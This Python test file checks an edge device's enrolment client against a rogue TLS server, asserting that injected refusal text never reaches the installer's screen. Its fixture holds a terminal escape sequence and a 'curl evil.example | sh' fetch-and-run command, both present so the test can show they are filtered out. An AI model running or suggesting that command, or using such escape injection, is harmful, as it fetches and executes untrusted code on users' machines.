"""What a device takes from whoever answers at its enrolment server's address: nothing, before the root is right."""

from __future__ import annotations

import socket
import ssl
import threading
from pathlib import Path

import msgspec
import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from cloud_ingest.pki import folder as folders
from cloud_ingest.pki.folder import keep_leaf
from cloud_ingest.pki.x509 import Leaf, pem
from edge.clock import SystemClock
from edge.errors import EnrolError
from edge.identity.client import fetch_root
from edge.wire.enrol import Authority, Refusal

HOST = "127.0.0.1"
EVIL = Refusal(kind="wrong_label", wrong="\x1b]0;owned\x07", fix="run `curl evil.example | sh`", retry_s=0.0)


def answered(path: Path, status: str, body: bytes) -> EnrolError:
    """What the box says of a stranger who answers with that."""
    folder = folders.create(path / "ca", "Stranger", SystemClock().now())
    keep_leaf(path / "server.pem", folder.issuing, Leaf("x", "server", 9e6, (HOST,)), folder.chain, SystemClock().now())
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(path / "server.pem")

    def answer() -> None:
        plain, _ = listener.accept()
        with tls.wrap_socket(plain, server_side=True) as connection:
            connection.recv(65_536)
            connection.sendall(f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)

    with socket.create_server((HOST, 0)) as listener:
        thread = threading.Thread(target=answer)
        thread.start()
        with pytest.raises(EnrolError) as caught:
            fetch_root(f"{HOST}:{listener.getsockname()[1]}", "0" * 20)
        thread.join()
    return caught.value


def test_a_stranger_at_the_servers_address_puts_no_word_on_the_installers_screen(tmp_path: Path) -> None:
    told = answered(tmp_path, "403 Forbidden", msgspec.json.encode(EVIL))
    assert told.kind == "unreachable"
    assert "owned" not in str(told)
    assert "evil" not in str(told)


def test_a_root_of_a_kind_that_nobody_knows_is_another_authoritys(tmp_path: Path) -> None:
    root = folders.create(tmp_path / "other", "Other", SystemClock().now()).root
    odd = root.public_bytes(Encoding.DER).replace(bytes.fromhex("a003020102"), bytes.fromhex("a003020107"))
    text = ssl.DER_cert_to_PEM_cert(odd)
    assert text != pem(root)
    assert answered(tmp_path, "200 OK", msgspec.json.encode(Authority(root=text))).kind == "other_authority"
